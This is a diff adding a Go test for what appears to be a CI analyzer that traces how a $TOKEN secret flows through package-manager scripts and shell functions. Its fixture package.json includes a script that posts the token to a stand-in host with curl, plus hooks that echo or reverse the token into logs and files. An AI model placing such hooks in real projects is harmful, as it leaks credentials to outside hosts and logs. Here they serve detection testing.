@@ -377,6 +377,36 @@ jobs:
 	}
 }
 
+// What managers of packages run stands in package.json, and what a library does in the
+// file that a script reads.
+func TestFlowsOfScriptsOfTheRepository(t *testing.T) {
+	files := map[string]string{
+		"package.json":     `{"name": "x", "scripts": {"ship": "curl -d \"$TOKEN\" https://h.example && npm run inner", "inner": "echo $TOKEN | rev; npm run ship", "preship": "echo $TOKEN > out", "test": "jest", "postinstall": "echo ${TOKEN:1}"}, "config": {"lint": "echo $TOKEN"}}`,
+		"web/package.json": `{"scripts": {"release": "echo $TOKEN | rev"}}`,
+		"lib.sh":           "show() { echo $TOKEN | rev; }\nquiet() { test $TOKEN; }\n",
+	}
+	tests := []struct {
+		name, script string
+		want         []string
+	}{
+		{"a script with one before it", "npm run ship", []string{
+			"file by echo KEY path=out at $TOKEN", "argv by curl KEY at $TOKEN", "network by curl KEY host=h.example at $TOKEN", "log by rev KEY +reverse masked=no at rev",
+		}},
+		{"one of a folder", "yarn --cwd web release\n(cd web && pnpm run release)", []string{"log by rev KEY +reverse masked=no at rev"}},
+		{"what an installation runs", "npm ci", []string{"log by echo KEY +substring masked=no at ${TOKEN:1}"}},
+		{"what runs no such script", "npm ci --ignore-scripts\nnpm test\nyarn lint\nnpm view x", nil},
+		{"a function of a library", ". ./lib.sh\nshow\nquiet", []string{"log by rev KEY +reverse masked=no at rev"}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got, _ := pipelinetest.Followed(t, script(test.script), files)
+			if diff := cmp.Diff(test.want, got); diff != "" {
+				t.Error(diff)
+			}
+		})
+	}
+}
+
 func TestInjected(t *testing.T) {
 	tests := []struct {
 		name, script string
